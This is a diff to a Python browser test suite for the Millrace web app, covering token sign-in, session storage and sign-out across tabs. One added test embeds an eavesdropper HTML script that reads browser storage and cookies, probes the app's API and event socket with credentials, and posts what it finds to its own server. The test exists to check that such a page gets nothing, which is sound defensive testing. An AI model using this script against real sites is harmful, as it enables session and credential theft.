@@ -10,8 +10,10 @@ from collections.abc import Awaitable, Callable
 from importlib.resources import files
 from pathlib import Path
 
+import aiohttp
 import numpy as np
 import pytest
+from aiohttp import web
 
 from millrace.client.blame import Blame
 from millrace.clock.drift import DriftEstimator
@@ -256,7 +258,11 @@ def test_volumes_mutes_and_incidents_are_on_the_page(bus: Bus, tmp_path: Path) -
     in_browser(bus, tmp_path, test)
 
 
-def test_without_a_right_the_page_asks_for_a_token_and_the_cookie_ends_with_it(bus: Bus, tmp_path: Path) -> None:
+OWN_STATUS = """import('/page/session.js').then(({ headers, kept }) =>
+fetch('/api/v1/state', { headers: headers(kept()) })).then(a => a.status)"""
+
+
+def test_without_a_right_the_page_asks_for_a_token_and_the_session_ends_with_it(bus: Bus, tmp_path: Path) -> None:
     """The page by its plain address, under a name that stands for another machine."""
     playing(bus, tmp_path)
     port = bus.listen.rpartition(":")[2]
@@ -275,11 +281,14 @@ def test_without_a_right_the_page_asks_for_a_token_and_the_cookie_ends_with_it(b
             await asyncio.sleep(0.5)
             assert await page.run("document.querySelector('#login').hidden") is right
         assert "Listen" in await page.run(seen)
-        assert secret not in await page.run("location.href + document.cookie + document.documentElement.outerHTML")
+        assert secret not in await page.run("location.href + document.documentElement.outerHTML")
+        assert secret not in await page.run("JSON.stringify({ ...localStorage, ...sessionStorage })")
+        assert await page.run("document.cookie") == ""
         assert await page.run("document.querySelector('#rights').hidden") is True
-        assert await page.run("fetch('/api/v1/state').then(a => a.status)") == 200
+        assert await page.run(OWN_STATUS) == 200
+        assert await page.run("fetch('/api/v1/state').then(a => a.status)") == 401, "nothing goes along by itself"
         bus.cli("token", "revoke", "token/1")
-        assert await page.run("fetch('/api/v1/state').then(a => a.status)") == 401
+        assert await page.run(OWN_STATUS) == 401
 
     need("chromium")
 
@@ -288,9 +297,109 @@ def test_without_a_right_the_page_asks_for_a_token_and_the_cookie_ends_with_it(b
         async with Page(tmp_path / "profile", flag) as page:
             await page.open(f"http://millrace.test:{port}/#in=mr_used")
             await page.until("document.querySelector('#status').textContent.includes('this link has been used')")
+            # What Millrace 0.1 gave its page instead.
+            await page.run("document.cookie = 'millrace-0123456789=b3duZXI.a.b'")
             await page.open("about:blank")
             await page.open(f"http://millrace.test:{port}/")
+            await page.run("document.cookie = 'millrace-0123456789=; max-age=0'")
             await test(page)
+
+    asyncio.run(main())
+
+
+SHOWN = "document.querySelector('#guest').value && document.querySelector('#login').hidden"
+
+
+def test_a_browser_stays_signed_in_over_a_reload_and_in_a_second_tab_until_it_is_signed_out(
+    bus: Bus, tmp_path: Path
+) -> None:
+    async def test(page: Page) -> None:
+        await page.until(SHOWN)
+        assert "#" not in await page.run("location.href"), "a link is not left in the history"
+        await page.open("about:blank")
+        await page.open(f"http://{bus.listen}/")
+        await page.until(SHOWN)
+        await page.run("void (globalThis.second = window.open(location.href))")
+        await page.until("second.document.readyState === 'complete' && second.document.querySelector('#guest')?.value")
+        session = await page.run("import('/page/session.js').then(s => s.kept())")
+        await page.run("second.document.querySelector('#leave').click()")
+        for where in ("document", "second.document"):
+            await page.until(f"!{where}.querySelector('#login').hidden")
+            await page.until(f"{where}.querySelector('#status').textContent === 'signed out'")
+        assert await page.run("localStorage.length") == 0
+        # Whoever had copied it has nothing either.
+        status = f"fetch('/api/v1/state', {{ headers: {{ Authorization: 'Bearer {session}' }} }}).then(a => a.status)"
+        await page.until(f"{status}.then(s => s === 401)")
+        # Signing in again in one tab opens the other.
+        link = bus.link().partition("#in=")[2]
+        await page.run(f"second.document.querySelector('#token').value = {link!r}")
+        await page.run("second.document.querySelector('#login').requestSubmit()")
+        await page.until(SHOWN)
+        # A guest that is gone is not asked for again and again.
+        bus.cli("guest", "add", "alice")
+        await page.until("[...document.querySelector('#guest').options].some(o => o.value === 'alice')")
+        await page.run(
+            "(() => { const g = document.querySelector('#guest'); g.value = 'alice';"
+            " g.dispatchEvent(new Event('change')); })()"
+        )
+        await page.until("millrace.state.guests.map(g => g.name).join() === 'alice'")
+        bus.cli("guest", "remove", "alice")
+        await page.until(f"{SHOWN} && document.querySelector('#guest').value === 'default'")
+        assert await page.run("document.querySelector('#status').textContent") == "connected"
+
+    in_browser(bus, tmp_path, test)
+
+
+EAVESDROPPER = """<!doctype html><img src="/picture"><script>
+const away = 'HERE', told = (what) => fetch('/kept', { method: 'POST', body: JSON.stringify(what) });
+told({ ...localStorage, ...sessionStorage, cookie: document.cookie });
+for (const path of ['/', '/api/v1/state', '/session'])
+  fetch(away + path, { credentials: 'include' }).then(a => a.text()).then(text => told({ text }), () => {});
+const line = new WebSocket(away.replace('http', 'ws') + '/api/v1/events');
+line.onmessage = ({ data }) => told({ text: data });
+setTimeout(() => told({}).then(() => { document.title = 'done'; }), 1000);
+</script>"""
+
+
+def test_a_page_on_another_port_gets_nothing_that_millrace_lets_in(bus: Bus, tmp_path: Path) -> None:
+    """A browser sends a host's cookies to every port of it: another user of this machine may listen there."""
+    need("chromium")
+    got: list[dict[str, str]] = []
+    found: list[str] = []
+
+    async def main() -> None:
+        async def serve(request: web.Request) -> web.Response:
+            got.append(dict(request.headers))
+            if request.method == "POST":
+                found.extend((await request.json()).values())
+            page = EAVESDROPPER.replace("HERE", f"http://{bus.listen}")
+            return web.Response(text=page, content_type="text/html")
+
+        app = web.Application()
+        app.router.add_route("*", "/{path:.*}", serve)
+        runner = web.AppRunner(app)
+        await runner.setup()
+        site = web.TCPSite(runner, "127.0.0.1", 0)
+        await site.start()
+        async with Page(tmp_path / "profile") as page:
+            await page.open(bus.link())
+            await page.until(SHOWN)
+            await page.open(f"http://127.0.0.1:{runner.addresses[0][1]}/")
+            await page.until("document.title === 'done'")
+            await page.open(f"http://{bus.listen}/")
+            await page.until(SHOWN)
+        await runner.cleanup()
+        assert len(got) >= 4 and not any("guests" in text for text in found), (got, found)
+        dropped = ("host", "connection", "content-length", "origin", "referer", "accept-encoding")
+        tries = [
+            {name: value for name, value in headers.items() if name.lower() not in dropped and name[:4] != "Sec-"}
+            for headers in got
+        ] + [{"Authorization": f"Bearer {text}"} for text in found if text]
+        async with aiohttp.ClientSession() as http:
+            for headers in tries:
+                for path in ("/api/v1/state", "/api/v1/events", "/metrics"):
+                    async with http.get(f"http://{bus.listen}{path}", headers=headers) as answer:
+                        assert answer.status in (401, 429), (path, headers)
 
     asyncio.run(main())
 
